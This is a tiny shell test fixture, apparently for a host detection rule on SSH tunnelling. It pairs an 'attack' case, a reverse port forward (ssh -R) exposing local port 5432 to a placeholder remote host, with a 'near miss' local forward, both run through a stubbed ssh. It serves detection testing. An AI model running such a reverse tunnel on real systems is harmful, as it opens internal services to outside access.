# rule: SSH used as a tunnel into this network
# where: host
attack() {
    ln -s /bin/true ssh
    ./ssh -fN -R 15432:127.0.0.1:5432 u@192.0.2.9
}
near_miss() {
    ln -s /bin/true ssh
    ./ssh -fN -L 15432:127.0.0.1:5432 u@192.0.2.9
}
